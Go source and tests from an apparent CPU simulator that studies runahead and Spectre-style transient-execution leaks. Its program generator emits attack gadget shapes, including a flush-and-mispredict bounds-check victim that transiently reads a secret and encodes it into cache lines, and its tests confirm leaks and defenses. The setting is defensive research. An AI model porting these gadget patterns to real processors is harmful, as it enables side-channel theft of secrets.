		for i := range a.Insts {
			if a.Insts[i] != c.Insts[i] {
				same = false
				break
			}
		}
	}
	if same {
		t.Fatal("different seeds produced identical programs")
	}
}

// Every generated program must terminate within a bounded step count on the
// reference interpreter — the property the differential tests depend on.
func TestGeneratedProgramsTerminate(t *testing.T) {
	seeds := 60
	if testing.Short() {
		seeds = 15
	}
	for seed := int64(1); seed <= int64(seeds); seed++ {
		prog := Generate(seed, DefaultOptions())
		it := iss.New(prog)
		if err := it.Run(5_000_000); err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		if !it.Halted {
			t.Fatalf("seed %d: did not halt", seed)
		}
	}
}

// Options subsets must generate valid programs too (used by focused tests).
func TestGenerateOptionSubsets(t *testing.T) {
	opts := []Options{
		{Len: 30, BufBytes: 1024, StackBytes: 256},              // minimal
		{Len: 40, Loops: true, BufBytes: 1024, StackBytes: 256}, // loops only
		{Len: 40, Calls: true, BufBytes: 1024, StackBytes: 256}, // calls only
		{Len: 40, Flushes: true, Vector: true, BufBytes: 2048, StackBytes: 256},
	}
	for i, o := range opts {
		prog := Generate(int64(100+i), o)
		it := iss.New(prog)
		if err := it.Run(2_000_000); err != nil {
			t.Fatalf("opts %d: %v", i, err)
		}
	}
}
