package proggen

import (
	"testing"

	"specrun/internal/iss"
)

func TestGenerateDeterministic(t *testing.T) {
	a := Generate(7, DefaultOptions())
	b := Generate(7, DefaultOptions())
	if len(a.Insts) != len(b.Insts) {
		t.Fatal("same seed, different size")
	}
	for i := range a.Insts {
		if a.Insts[i] != b.Insts[i] {
			t.Fatalf("same seed, different instruction at %d", i)
		}
	}
	c := Generate(8, DefaultOptions())
	same := len(a.Insts) == len(c.Insts)
	if same {
		for i := range a.Insts {
			if a.Insts[i] != c.Insts[i] {
				same = false
				break
			}
		}
	}
	if same {
		t.Fatal("different seeds produced identical programs")
	}
}

// Every generated program must terminate within a bounded step count on the
// reference interpreter — the property the differential tests depend on.
func TestGeneratedProgramsTerminate(t *testing.T) {
	seeds := 60
	if testing.Short() {
		seeds = 15
	}
	for seed := int64(1); seed <= int64(seeds); seed++ {
		prog := Generate(seed, DefaultOptions())
		it := iss.New(prog)
		if err := it.Run(5_000_000); err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		if !it.Halted {
			t.Fatalf("seed %d: did not halt", seed)
		}
	}
}

// Options subsets must generate valid programs too (used by focused tests).
func TestGenerateOptionSubsets(t *testing.T) {
	opts := []Options{
		{Len: 30, BufBytes: 1024, StackBytes: 256},              // minimal
		{Len: 40, Loops: true, BufBytes: 1024, StackBytes: 256}, // loops only
		{Len: 40, Calls: true, BufBytes: 1024, StackBytes: 256}, // calls only
		{Len: 40, Flushes: true, Vector: true, BufBytes: 2048, StackBytes: 256},
		{Len: 50, Gadgets: true, BufBytes: 1024, StackBytes: 256}, // gadget patterns only
	}
	for i, o := range opts {
		prog := Generate(int64(100+i), o)
		it := iss.New(prog)
		if err := it.Run(2_000_000); err != nil {
			t.Fatalf("opts %d: %v", i, err)
		}
	}
}

// Gadget-shaped address patterns must keep every architectural access inside
// the scratch buffer and stack: the generated programs never read or write
// memory outside the regions the differential oracle compares.
func TestGadgetAccessesStayInBounds(t *testing.T) {
	opt := Options{Len: 120, Gadgets: true, Loops: true, BufBytes: 1024, StackBytes: 256}
	for seed := int64(1); seed <= 20; seed++ {
		prog := Generate(seed, opt)
		it := iss.New(prog)
		if err := it.Run(2_000_000); err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		// Memory pages only exist for written addresses, so the footprint
		// bounds the store-address range: buf and stack are contiguous from
		// Alloc, spanning at most two 4K pages at this size.
		buf := prog.MustSym("buf")
		end := prog.MustSym("stack") + uint64(opt.StackBytes)
		maxPages := int((end-1)/4096-buf/4096) + 1
		if got := it.Mem.Footprint(); got > maxPages {
			t.Fatalf("seed %d: %d memory pages touched (max %d) — a store escaped the scratch regions",
				seed, got, maxPages)
		}
	}
}
