// Package proggen generates random, terminating programs for differential
// testing: the out-of-order core (in every runahead/secure configuration)
// must produce exactly the architectural state the in-order reference
// interpreter produces, or speculation has leaked architecturally.
//
// Generated programs use bounded countdown loops, forward branches, calls
// with a real memory stack, byte/word loads and stores confined to a scratch
// buffer, vector ops, and clflush (which perturbs timing and triggers
// runahead episodes without any architectural effect).
package proggen

import (
	"math/rand"

	"specrun/internal/asm"
	"specrun/internal/isa"
)

// Options bounds program shape.  The JSON tags give fuzz-campaign reports
// and minimized reproducers a stable wire form.
type Options struct {
	Len        int  `json:"len"`       // approximate instruction count of the main body
	Loops      bool `json:"loops"`     // allow bounded countdown loops
	Calls      bool `json:"calls"`     // allow call/ret pairs
	Flushes    bool `json:"flushes"`   // allow clflush (triggers runahead on the OoO core)
	Vector     bool `json:"vector"`    // allow 128-bit vector ops
	FloatOps   bool `json:"float_ops"` // allow FP arithmetic
	Gadgets    bool `json:"gadgets"`   // allow bounds-check/gadget-shaped address patterns
	BufBytes   int  `json:"buf_bytes"` // scratch buffer size (power of two)
	StackBytes int  `json:"stack_bytes"`
	// SecretBytes > 0 allocates a secret region directly after the scratch
	// buffer (a multiple of 64, so it is line-aligned) and adds a
	// Spectre-victim gadget shape whose *committed* accesses never touch it
	// but whose transient reach covers it — the program family the leak
	// oracle (specrun/internal/leak) runs under two secret valuations.
	// Zero (the default) leaves generation byte-identical to earlier
	// versions: no extra allocation, no extra gadget shape, same RNG stream.
	SecretBytes int `json:"secret_bytes,omitempty"`
}

// DefaultOptions covers the whole ISA.
func DefaultOptions() Options {
	return Options{
		Len:        60,
		Loops:      true,
		Calls:      true,
		Flushes:    true,
		Vector:     true,
		FloatOps:   true,
		Gadgets:    true,
		BufBytes:   4096,
		StackBytes: 1024,
	}
}

// WithDefaults resolves the zero Options value to DefaultOptions — the one
// defaulting rule shared by Generate and every consumer that needs to know
// the buffer/stack geometry of a generated program (difftest memory
// oracles).  An unset BufBytes marks the whole struct as unset.
func (o Options) WithDefaults() Options {
	if o.BufBytes == 0 {
		return DefaultOptions()
	}
	return o
}

// Generate builds a random program from seed.  The returned program halts
// within a bounded number of steps by construction.
func Generate(seed int64, opt Options) *asm.Program {
	prog, _ := GenerateWithInfo(seed, opt)
	return prog
}

// Info reports the memory geometry of a generated program.
type Info struct {
	BufAddr    uint64 // scratch buffer base ("buf")
	SecretAddr uint64 // secret region base ("secret"); 0 when SecretBytes == 0
}

// GenerateWithInfo is Generate plus the geometry a leak harness needs to
// install secret valuations before each run.
func GenerateWithInfo(seed int64, opt Options) (*asm.Program, Info) {
	opt = opt.WithDefaults()
	g := &gen{
		rng: rand.New(rand.NewSource(seed)),
		b:   asm.NewBuilder(0x1000, 0x100000),
		opt: opt,
	}
	return g.run()
}

type gen struct {
	rng    *rand.Rand
	b      *asm.Builder
	opt    Options
	nLabel int
	funcs  []string
}

// Register conventions: r1..r10 data, r11/r12 loop counters, r20 buffer
// base, sp stack.  f1..f6 and v1..v4 for FP/vector.
func (g *gen) run() (*asm.Program, Info) {
	buf := g.b.Alloc("buf", uint64(g.opt.BufBytes), 64)
	var secret uint64
	if g.opt.SecretBytes > 0 {
		// The secret sits directly after the (line-aligned, power-of-two)
		// buffer, and a pad extends the allocation to buf+2*BufBytes so the
		// leak gadget's transient index span [0, 2*BufBytes) never reaches
		// unallocated memory.  The region is zero-initialised; the leak
		// harness pokes each secret valuation in before every run.
		n := (uint64(g.opt.SecretBytes) + 63) &^ 63
		if n > uint64(g.opt.BufBytes) {
			n = uint64(g.opt.BufBytes)
		}
		secret = g.b.Alloc("secret", n, 64)
		if pad := uint64(g.opt.BufBytes) - n; pad > 0 {
			g.b.Alloc("leakpad", pad, 64)
		}
	}
	stack := g.b.Alloc("stack", uint64(g.opt.StackBytes), 64)
	// Pre-initialise the buffer with pseudo-random data.
	initWords := make([]uint64, g.opt.BufBytes/8)
	for i := range initWords {
		initWords[i] = g.rng.Uint64()
	}
	g.b.U64(buf, initWords...)

	g.b.MoviAddr(isa.SP, stack+uint64(g.opt.StackBytes))
	g.b.MoviAddr(isa.R(20), buf)
	for r := 1; r <= 10; r++ {
		g.b.Movi(isa.R(r), int64(g.rng.Uint64()>>16))
	}
	if g.opt.FloatOps {
		for r := 1; r <= 6; r++ {
			g.b.Fmovi(isa.F(r), float64(g.rng.Intn(1000))+0.5)
		}
	}
	if g.opt.Vector {
		for r := 1; r <= 4; r++ {
			g.b.Vld(isa.V(r), isa.R(20), int64(g.rng.Intn(g.opt.BufBytes/2))&^15)
		}
	}

	// Declare up to three tiny leaf functions ahead of time.
	if g.opt.Calls {
		for i := 0; i < 3; i++ {
			g.funcs = append(g.funcs, g.label("fn"))
		}
	}

	g.block(g.opt.Len, 2)
	g.b.Halt()

	// Emit the leaf functions after the halt.
	for _, name := range g.funcs {
		g.b.Label(name)
		for i := 0; i < 2+g.rng.Intn(4); i++ {
			g.alu()
		}
		g.b.Ret()
	}
	return g.b.MustBuild(), Info{BufAddr: buf, SecretAddr: secret}
}

func (g *gen) label(prefix string) string {
	g.nLabel++
	return prefix + "_" + itoa(g.nLabel)
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf [8]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	return string(buf[i:])
}

func (g *gen) reg() isa.Reg  { return isa.R(1 + g.rng.Intn(10)) }
func (g *gen) freg() isa.Reg { return isa.F(1 + g.rng.Intn(6)) }
func (g *gen) vreg() isa.Reg { return isa.V(1 + g.rng.Intn(4)) }

func (g *gen) bufOff(align int) int64 {
	return int64(g.rng.Intn(g.opt.BufBytes-16)) &^ int64(align-1)
}

// block emits roughly n instructions, nesting at most depth control blocks.
func (g *gen) block(n, depth int) {
	for i := 0; i < n; i++ {
		switch pick := g.rng.Intn(20); {
		case pick < 8:
			g.alu()
		case pick < 11:
			g.memOp()
		case pick < 12 && g.opt.Flushes:
			g.b.Clflush(isa.R(20), g.bufOff(1))
		case pick < 14 && depth > 0:
			g.ifBlock(depth - 1)
		case pick < 15 && g.opt.Loops && depth > 0:
			g.loop(depth - 1)
		case pick < 16 && g.opt.Calls && len(g.funcs) > 0:
			g.b.Call(g.funcs[g.rng.Intn(len(g.funcs))])
		case pick < 17 && g.opt.FloatOps:
			g.fpOp()
		case pick < 18 && g.opt.Vector:
			g.vecOp()
		case pick < 19 && g.opt.Gadgets:
			g.gadget()
		default:
			g.alu()
		}
	}
}

func (g *gen) alu() {
	rd, r1, r2 := g.reg(), g.reg(), g.reg()
	switch g.rng.Intn(10) {
	case 0:
		g.b.Add(rd, r1, r2)
	case 1:
		g.b.Sub(rd, r1, r2)
	case 2:
		g.b.Mul(rd, r1, r2)
	case 3:
		g.b.Div(rd, r1, r2)
	case 4:
		g.b.And(rd, r1, r2)
	case 5:
		g.b.Or(rd, r1, r2)
	case 6:
		g.b.Xor(rd, r1, r2)
	case 7:
		g.b.Shli(rd, r1, int64(g.rng.Intn(8)))
	case 8:
		g.b.Shri(rd, r1, int64(g.rng.Intn(8)))
	default:
		g.b.Addi(rd, r1, int64(g.rng.Intn(64))-32)
	}
}

func (g *gen) memOp() {
	r := g.reg()
	switch g.rng.Intn(4) {
	case 0:
		g.b.Ld(r, isa.R(20), g.bufOff(8))
	case 1:
		g.b.St(isa.R(20), g.bufOff(8), r)
	case 2:
		g.b.Ldb(r, isa.R(20), g.bufOff(1))
	default:
		g.b.Stb(isa.R(20), g.bufOff(1), r)
	}
}

func (g *gen) fpOp() {
	fd, f1, f2 := g.freg(), g.freg(), g.freg()
	switch g.rng.Intn(5) {
	case 0:
		g.b.Fadd(fd, f1, f2)
	case 1:
		g.b.Fsub(fd, f1, f2)
	case 2:
		g.b.Fmul(fd, f1, f2)
	case 3:
		g.b.Fdiv(fd, f1, f2)
	default:
		g.b.Fld(fd, isa.R(20), g.bufOff(8))
	}
}

func (g *gen) vecOp() {
	switch g.rng.Intn(4) {
	case 0:
		g.b.Vld(g.vreg(), isa.R(20), g.bufOff(16))
	case 1:
		g.b.Vst(isa.R(20), g.bufOff(16), g.vreg())
	case 2:
		g.b.Vaddq(g.vreg(), g.vreg(), g.vreg())
	default:
		g.b.Vxorq(g.vreg(), g.vreg(), g.vreg())
	}
}

// gadget emits one of the address patterns every transient-execution attack
// is built from: a bounds-checked indexed load (the Spectre-PHT victim
// shape), a dependent-address load pair (a loaded value feeds the next load
// address — the leak shape, and during runahead an INV value feeding an
// address), or an indexed store at a data-dependent address (dynamic
// store-queue disambiguation).  With SecretBytes set, a fourth shape is a
// Spectre victim whose transient reach covers the secret region.
// Architectural addresses are masked (or bounds-checked) into the scratch
// buffer, so the reference interpreter and the OoO core agree on every
// committed access; only the *speculative* address stream differs.
func (g *gen) gadget() {
	byteMask := int64(g.opt.BufBytes - 1)
	elemMask := int64(g.opt.BufBytes/8 - 1)
	shapes := 3
	if g.opt.SecretBytes > 0 {
		shapes = 4 // the Spectre-victim shape below needs the secret region
	}
	switch g.rng.Intn(shapes) {
	case 3:
		// Spectre victim reaching the secret.  The bounds check compares
		// against a bound loaded from a just-flushed buffer line, so — like
		// the handwritten PoCs — its resolution stalls for a full memory
		// round-trip and the misprediction window spans the stall (long
		// enough for runahead to run the transient body).  The masked bound
		// is always below BufBytes while the index always points into the
		// secret region, so the branch is architecturally always taken and
		// the sequential baseline cannot depend on the secret.  Transiently,
		// the loaded secret byte is spread across line-sized slots of the
		// [0, 2*BufBytes) span and touched — the covert-channel observation.
		skip := g.label("leakb")
		span := 1
		for span*2 <= g.opt.SecretBytes && span*2 <= g.opt.BufBytes {
			span *= 2
		}
		idx, bound, val, t := g.reg(), g.reg(), g.reg(), g.reg()
		off := g.bufOff(8)
		g.b.Clflush(isa.R(20), off)
		g.b.Ld(bound, isa.R(20), off)
		g.b.Andi(bound, bound, byteMask)
		g.b.Andi(idx, g.reg(), int64(span-1))
		g.b.Addi(idx, idx, int64(g.opt.BufBytes))
		g.b.Bgeu(idx, bound, skip)
		g.b.Ldbx(val, isa.R(20), idx, 0, 0)
		g.b.Shli(t, val, 6)
		g.b.Andi(t, t, int64(2*g.opt.BufBytes-1))
		g.b.Ldbx(g.reg(), isa.R(20), t, 0, 0)
		g.b.Label(skip)
	case 0:
		// Bounds check guarding an indexed word load: blt/bgeu steers past
		// the access for out-of-bound indices, both outcomes are reachable.
		skip := g.label("inb")
		idx, bound := g.reg(), g.reg()
		g.b.Andi(idx, g.reg(), elemMask)
		g.b.Movi(bound, 1+int64(g.rng.Intn(g.opt.BufBytes/8)))
		g.b.Bgeu(idx, bound, skip)
		g.b.Ldx(g.reg(), isa.R(20), idx, 3, 0)
		g.b.Label(skip)
	case 1:
		// Dependent-address pair: the first load's value becomes the second
		// load's index.
		val, idx := g.reg(), g.reg()
		g.b.Ld(val, isa.R(20), g.bufOff(8))
		g.b.Andi(idx, val, byteMask)
		g.b.Ldbx(g.reg(), isa.R(20), idx, 0, 0)
	default:
		// Data-dependent store address (byte or word).
		idx := g.reg()
		if g.rng.Intn(2) == 0 {
			g.b.Andi(idx, g.reg(), byteMask)
			g.b.Stbx(isa.R(20), idx, 0, 0, g.reg())
		} else {
			g.b.Andi(idx, g.reg(), elemMask)
			g.b.Stx(isa.R(20), idx, 3, 0, g.reg())
		}
	}
}

// ifBlock emits a data-dependent forward branch over a small body — the
// branch direction varies with generated data, exercising both prediction
// outcomes and wrong-path execution.
func (g *gen) ifBlock(depth int) {
	end := g.label("endif")
	r1, r2 := g.reg(), g.reg()
	switch g.rng.Intn(4) {
	case 0:
		g.b.Beq(r1, r2, end)
	case 1:
		g.b.Bne(r1, r2, end)
	case 2:
		g.b.Blt(r1, r2, end)
	default:
		g.b.Bgeu(r1, r2, end)
	}
	g.block(2+g.rng.Intn(4), depth)
	g.b.Label(end)
}

// loop emits a bounded countdown loop (2..5 iterations).  The counter
// register is chosen by nesting depth so that nested loops can never clobber
// an enclosing counter (which would break the termination bound).
func (g *gen) loop(depth int) {
	ctr := isa.R(11 + depth)
	top := g.label("loop")
	g.b.Movi(ctr, int64(2+g.rng.Intn(4)))
	g.b.Label(top)
	g.block(2+g.rng.Intn(4), depth)
	g.b.Addi(ctr, ctr, -1)
	g.b.Bne(ctr, isa.R(0), top)
}
