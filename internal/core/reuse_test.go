package core

import (
	"encoding/json"
	"testing"

	"specrun/internal/workload"
)

// TestRunProgramStatsMatchesFreshMachine pins the pooled-machine contract:
// RunProgramStats (which reuses one machine per worker per configuration)
// must return statistics byte-identical to a throwaway fresh machine, on
// first use and on every pooled reuse after it.
func TestRunProgramStatsMatchesFreshMachine(t *testing.T) {
	k, err := workload.ByName("mcf")
	if err != nil {
		t.Fatal(err)
	}
	for _, cfg := range []Config{DefaultConfig(), BaselineConfig(), SecureConfig()} {
		m, err := RunProgram(cfg, k.Build())
		if err != nil {
			t.Fatal(err)
		}
		want, _ := json.Marshal(m.Stats())
		// Three rounds: the first typically builds the pooled machine, the
		// rest exercise Reset-reuse.
		for round := 0; round < 3; round++ {
			st, err := RunProgramStats(cfg, k.Build())
			if err != nil {
				t.Fatal(err)
			}
			got, _ := json.Marshal(&st)
			if string(got) != string(want) {
				t.Fatalf("round %d: pooled stats diverged:\nfresh:  %s\npooled: %s", round, want, got)
			}
		}
	}
}
