package core

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"

	"specrun/internal/mem"
)

// Normalize returns cfg with every zero capacity, width and latency field
// replaced by its Table 1 default, so that two configurations describing the
// same machine hash identically under [HashKey].  Fields whose zero value is
// meaningful — Runahead.Kind (none = baseline), Branch.BTBTagBits (0 = full
// tags) and the boolean switches — are left untouched.
func Normalize(cfg Config) Config {
	def := DefaultConfig()
	fill := func(dst *int, d int) {
		if *dst == 0 {
			*dst = d
		}
	}
	fill(&cfg.FetchWidth, def.FetchWidth)
	fill(&cfg.DecodeWidth, def.DecodeWidth)
	fill(&cfg.DispatchWidth, def.DispatchWidth)
	fill(&cfg.IssueWidth, def.IssueWidth)
	fill(&cfg.CommitWidth, def.CommitWidth)
	fill(&cfg.FrontEndDepth, def.FrontEndDepth)
	fill(&cfg.ROBSize, def.ROBSize)
	fill(&cfg.IQSize, def.IQSize)
	fill(&cfg.LQSize, def.LQSize)
	fill(&cfg.SQSize, def.SQSize)
	fill(&cfg.IntPRF, def.IntPRF)
	fill(&cfg.FPPRF, def.FPPRF)
	fill(&cfg.VecPRF, def.VecPRF)
	fill(&cfg.IntALU, def.IntALU)
	fill(&cfg.IntMul, def.IntMul)
	fill(&cfg.IntDiv, def.IntDiv)
	fill(&cfg.FPAdd, def.FPAdd)
	fill(&cfg.FPMul, def.FPMul)
	fill(&cfg.FPDiv, def.FPDiv)
	fill(&cfg.MemPorts, def.MemPorts)
	fill(&cfg.FrontQ, def.FrontQ)

	fill(&cfg.Mem.LineSize, def.Mem.LineSize)
	fillCache(&cfg.Mem.L1I, def.Mem.L1I)
	fillCache(&cfg.Mem.L1D, def.Mem.L1D)
	fillCache(&cfg.Mem.L2, def.Mem.L2)
	fillCache(&cfg.Mem.L3, def.Mem.L3)
	fill(&cfg.Mem.MemLatency, def.Mem.MemLatency)
	fill(&cfg.Mem.MemBusCycles, def.Mem.MemBusCycles)
	fill(&cfg.Mem.MemMaxOutstanding, def.Mem.MemMaxOutstanding)

	fill(&cfg.Branch.HistoryBits, def.Branch.HistoryBits)
	fill(&cfg.Branch.PHTSize, def.Branch.PHTSize)
	fill(&cfg.Branch.BTBSets, def.Branch.BTBSets)
	fill(&cfg.Branch.BTBAssoc, def.Branch.BTBAssoc)
	fill(&cfg.Branch.RSBSize, def.Branch.RSBSize)

	if cfg.Runahead.TriggerLevel == mem.LevelNone {
		cfg.Runahead.TriggerLevel = def.Runahead.TriggerLevel
	}
	fill(&cfg.Runahead.RunaheadCacheBytes, def.Runahead.RunaheadCacheBytes)
	fill(&cfg.Runahead.ExitPenalty, def.Runahead.ExitPenalty)
	fill(&cfg.Runahead.VectorLanes, def.Runahead.VectorLanes)

	fill(&cfg.Secure.SLEntries, def.Secure.SLEntries)
	fill(&cfg.Secure.SLLatency, def.Secure.SLLatency)
	return cfg
}

func fillCache(dst *mem.CacheConfig, def mem.CacheConfig) {
	if dst.Name == "" {
		dst.Name = def.Name
	}
	if dst.Size == 0 {
		dst.Size = def.Size
	}
	if dst.Assoc == 0 {
		dst.Assoc = def.Assoc
	}
	if dst.Latency == 0 {
		dst.Latency = def.Latency
	}
}

// validLimit is a generous upper bound on any single capacity/size field;
// it exists to keep a hostile configuration from requesting absurd
// allocations, not to police realistic machines.
const validLimit = 1 << 30

// Validate rejects configurations that cannot build a machine: after
// [Normalize], every width, capacity and latency must be positive (and
// sanely bounded), and the tag-width field non-negative.  The HTTP API
// calls this on every decoded config so a hostile document degrades into a
// 400 instead of a panic inside the simulator.
func Validate(cfg Config) error {
	pos := []struct {
		name string
		v    int
	}{
		{"fetch_width", cfg.FetchWidth}, {"decode_width", cfg.DecodeWidth},
		{"dispatch_width", cfg.DispatchWidth}, {"issue_width", cfg.IssueWidth},
		{"commit_width", cfg.CommitWidth}, {"front_end_depth", cfg.FrontEndDepth},
		{"rob_size", cfg.ROBSize}, {"iq_size", cfg.IQSize},
		{"lq_size", cfg.LQSize}, {"sq_size", cfg.SQSize},
		{"int_prf", cfg.IntPRF}, {"fp_prf", cfg.FPPRF}, {"vec_prf", cfg.VecPRF},
		{"int_alu", cfg.IntALU}, {"int_mul", cfg.IntMul}, {"int_div", cfg.IntDiv},
		{"fp_add", cfg.FPAdd}, {"fp_mul", cfg.FPMul}, {"fp_div", cfg.FPDiv},
		{"mem_ports", cfg.MemPorts}, {"front_q", cfg.FrontQ},
		{"mem.line_size", cfg.Mem.LineSize},
		{"mem.l1i.size", cfg.Mem.L1I.Size}, {"mem.l1i.assoc", cfg.Mem.L1I.Assoc}, {"mem.l1i.latency", cfg.Mem.L1I.Latency},
		{"mem.l1d.size", cfg.Mem.L1D.Size}, {"mem.l1d.assoc", cfg.Mem.L1D.Assoc}, {"mem.l1d.latency", cfg.Mem.L1D.Latency},
		{"mem.l2.size", cfg.Mem.L2.Size}, {"mem.l2.assoc", cfg.Mem.L2.Assoc}, {"mem.l2.latency", cfg.Mem.L2.Latency},
		{"mem.l3.size", cfg.Mem.L3.Size}, {"mem.l3.assoc", cfg.Mem.L3.Assoc}, {"mem.l3.latency", cfg.Mem.L3.Latency},
		{"mem.mem_latency", cfg.Mem.MemLatency}, {"mem.mem_bus_cycles", cfg.Mem.MemBusCycles},
		{"mem.mem_max_outstanding", cfg.Mem.MemMaxOutstanding},
		{"branch.history_bits", cfg.Branch.HistoryBits}, {"branch.pht_size", cfg.Branch.PHTSize},
		{"branch.btb_sets", cfg.Branch.BTBSets}, {"branch.btb_assoc", cfg.Branch.BTBAssoc},
		{"branch.rsb_size", cfg.Branch.RSBSize},
		{"runahead.runahead_cache_bytes", cfg.Runahead.RunaheadCacheBytes},
		{"runahead.exit_penalty", cfg.Runahead.ExitPenalty},
		{"runahead.vector_lanes", cfg.Runahead.VectorLanes},
		{"secure.sl_entries", cfg.Secure.SLEntries}, {"secure.sl_latency", cfg.Secure.SLLatency},
	}
	for _, f := range pos {
		if f.v <= 0 || f.v > validLimit {
			return fmt.Errorf("core: config field %s = %d out of range (1..%d)", f.name, f.v, validLimit)
		}
	}
	if cfg.Branch.BTBTagBits < 0 || cfg.Branch.BTBTagBits > 64 {
		return fmt.Errorf("core: config field branch.btb_tag_bits = %d out of range (0..64)", cfg.Branch.BTBTagBits)
	}
	return nil
}

// HashKey returns a content-addressed cache key: the hex SHA-256 of the
// driver name and the canonical JSON of each part (encoding/json emits
// struct fields in declaration order, so the encoding is deterministic).
// Callers pass Normalize'd configurations so equivalent machines share keys.
func HashKey(driver string, parts ...any) (string, error) {
	h := sha256.New()
	h.Write([]byte(driver))
	for _, p := range parts {
		h.Write([]byte{0})
		b, err := json.Marshal(p)
		if err != nil {
			return "", fmt.Errorf("core: hash key for %s: %w", driver, err)
		}
		h.Write(b)
	}
	return hex.EncodeToString(h.Sum(nil)), nil
}
