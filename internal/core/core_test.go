package core

import (
	"strings"
	"testing"

	"specrun/internal/runahead"
)

func TestTable1Render(t *testing.T) {
	out := Table1(DefaultConfig())
	for _, want := range []string{
		"256 entries", // ROB
		"i (40), load (40), store (40)",
		"16KB, 4 way, 2 cycle",  // L1s
		"128KB, 8 way, 8 cycle", // L2
		"4MB, 8 way, 32 cycle",  // L3
		"request-based contention model, 200 cycle",
		"two-level adaptive",
		"4 int add (1 cyc), 2 int mult (2 cyc), 1 int div (5 cyc)",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("Table1 output missing %q\n%s", want, out)
		}
	}
}

func TestConfigsDiffer(t *testing.T) {
	if BaselineConfig().Runahead.Kind != runahead.KindNone {
		t.Error("baseline must disable runahead")
	}
	if DefaultConfig().Runahead.Kind != runahead.KindOriginal {
		t.Error("default must enable original runahead")
	}
	if !SecureConfig().Secure.Enabled {
		t.Error("secure config must enable the defense")
	}
	if VariantConfig(runahead.KindVector).Runahead.Kind != runahead.KindVector {
		t.Error("variant config must select the kind")
	}
}

func TestFig9EndToEnd(t *testing.T) {
	r, err := RunFig9(DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if b, ok := r.LeakedByte(); !ok || b != 86 {
		t.Fatalf("Fig. 9: leaked %d ok=%v, want 86", b, ok)
	}
	plot := FormatProbe(r, 10)
	if !strings.Contains(plot, "leaked value: 86") {
		t.Errorf("probe plot missing leak annotation:\n%s", plot)
	}
}

func TestFig11EndToEnd(t *testing.T) {
	r, err := RunFig11(DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if b, ok := r.Runahead.LeakedByte(); !ok || b != 127 {
		t.Errorf("runahead machine: leaked %d ok=%v, want 127", b, ok)
	}
	if r.NoRunahead.Leaked {
		t.Errorf("no-runahead machine must not leak (got index %d)", r.NoRunahead.BestIdx)
	}
}

func TestFig10EndToEnd(t *testing.T) {
	n1, n2, n3, err := RunFig10(DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if n1.N != 255 || n2.N <= n1.N || n3.N <= n2.N {
		t.Errorf("window shape broken: N1=%d N2=%d N3=%d", n1.N, n2.N, n3.N)
	}
	out := FormatWindows(n1, n2, n3)
	if !strings.Contains(out, "paper: 840") {
		t.Errorf("window report incomplete:\n%s", out)
	}
}

func TestDefenseEndToEnd(t *testing.T) {
	d, err := RunDefense(DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if !d.Vulnerable.Leaked {
		t.Error("vulnerable machine must leak")
	}
	if d.Secure.Leaked {
		t.Error("SL-cache machine must not leak")
	}
	if d.SkipINV.Leaked {
		t.Error("skip-INV machine must not leak")
	}
	out := FormatDefense(d)
	if !strings.Contains(out, "LEAKED byte 127") || !strings.Contains(out, "no leak") {
		t.Errorf("defense report incomplete:\n%s", out)
	}
}

func TestVariantMatrixEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("variant matrix is slow")
	}
	rows, err := RunVariantMatrix(DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 6 {
		t.Fatalf("want 6 variant rows, got %d", len(rows))
	}
	for _, r := range rows {
		if _, ok := r.Result.LeakedByte(); !ok {
			t.Errorf("%s: no leak", r.Label)
		}
	}
	out := FormatVariants(rows)
	if strings.Count(out, "leaked byte") != 6 {
		t.Errorf("variant report incomplete:\n%s", out)
	}
}

func TestIPCComparisonShape(t *testing.T) {
	if testing.Short() {
		t.Skip("Fig. 7 sweep is slow")
	}
	rows, err := RunIPCComparison(DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 6 {
		t.Fatalf("want 6 benchmarks, got %d", len(rows))
	}
	mean := MeanSpeedup(rows)
	t.Logf("\n%s", FormatIPC(rows))
	// The paper reports an average improvement of 11%; hold the shape within
	// a band wide enough to be robust to model tweaks.
	if mean < 1.05 || mean > 1.20 {
		t.Errorf("mean runahead speedup %.3f outside the 5%%..20%% band (paper: ~11%%)", mean)
	}
	for _, r := range rows {
		if r.Speedup < 0.99 {
			t.Errorf("%s: runahead loses (%0.3f)", r.Name, r.Speedup)
		}
	}
}
