package core

import (
	"fmt"
	"strings"

	"specrun/internal/attack"
)

// Table1 renders the simulated processor configuration in the shape of the
// paper's Table 1.
func Table1(cfg Config) string {
	var b strings.Builder
	row := func(k, v string) { fmt.Fprintf(&b, "  %-18s %s\n", k, v) }
	b.WriteString("Table 1: processor configuration\n")
	row("Core", "2GHz, out-of-order")
	row("Width", fmt.Sprintf("%d-wide fetch/decode/dispatch/commit", cfg.FetchWidth))
	row("Pipeline depth", fmt.Sprintf("%d front-end stages", cfg.FrontEndDepth))
	row("Branch predictor", fmt.Sprintf("two-level adaptive (%d-bit history, %d-entry PHT, %dx%d BTB, %d-entry RSB)",
		cfg.Branch.HistoryBits, cfg.Branch.PHTSize, cfg.Branch.BTBSets, cfg.Branch.BTBAssoc, cfg.Branch.RSBSize))
	row("Functional units", fmt.Sprintf("%d int add (1 cyc), %d int mult (2 cyc), %d int div (5 cyc), %d fp add (5 cyc), %d fp mult (10 cyc), %d fp div (15 cyc)",
		cfg.IntALU, cfg.IntMul, cfg.IntDiv, cfg.FPAdd, cfg.FPMul, cfg.FPDiv))
	row("Register file", fmt.Sprintf("%d int, %d fp, %d xmm", cfg.IntPRF, cfg.FPPRF, cfg.VecPRF))
	row("ROB", fmt.Sprintf("%d entries", cfg.ROBSize))
	row("Queues", fmt.Sprintf("i (%d), load (%d), store (%d)", cfg.IQSize, cfg.LQSize, cfg.SQSize))
	row("L1 I-cache", fmt.Sprintf("%dKB, %d way, %d cycle", cfg.Mem.L1I.Size>>10, cfg.Mem.L1I.Assoc, cfg.Mem.L1I.Latency))
